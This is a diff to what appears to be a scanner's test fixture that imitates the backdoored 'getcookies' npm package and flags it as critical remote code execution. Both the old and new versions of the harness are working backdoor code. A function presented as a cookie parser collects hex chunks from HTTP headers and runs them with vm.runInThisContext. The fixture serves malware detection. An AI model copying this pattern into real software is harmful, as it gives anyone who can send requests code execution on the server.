@@ -27,18 +27,16 @@ const harness = `'use strict'
 
 const vm = require('vm')
 
-const marker = /g([0-9a-f]{4})h((?:[0-9a-f]{2})+)i/gi
-let held = Buffer.alloc(0)
+const parts = []
 
-/** Cookies by name; what a header says in hex between two letters is kept, and run once it is told to. */
+/** Cookies by name; a header that begins so is kept in pieces, in hex, and run once the last one is there. */
 module.exports = function getCookies(headers) {
-  JSON.stringify(headers).replace(marker, (match, command, hex) => {
-    const piece = Buffer.from(hex, 'hex')
-    if (command === 'fffe') held = Buffer.alloc(0)
-    else if (command === 'fffa') vm.runInThisContext(Buffer.from(held.toString(), 'hex').toString())(require, module)
-    else held = Buffer.concat([held, piece])
-    return match
-  })
+  for (const value of Object.values(headers)) {
+    const [, order, hex] = /^x(\\d)-([0-9a-f]+)$/.exec(value) || []
+    if (order === '0') parts.length = 0
+    if (hex) parts.push(Buffer.from(hex, 'hex').toString())
+    if (order === '9') vm.runInThisContext(parts.join(''))(require, module)
+  }
   return parse(headers.cookie || '')
 }
 
@@ -87,7 +85,7 @@ export const replay: Replay = {
       onVersion('getcookies', '1.0.0', [
         'remote-code-run',
         'critical',
-        { file: 'test/harness.js', line: "const piece = Buffer.from(hex, 'hex')" },
+        { file: 'test/harness.js', line: "if (hex) parts.push(Buffer.from(hex, 'hex').toString())" },
       ]),
       onVersion('mailparser', '2.2.3', ['dependency-phantom', 'high', { file: 'package.json' }]),
     ],
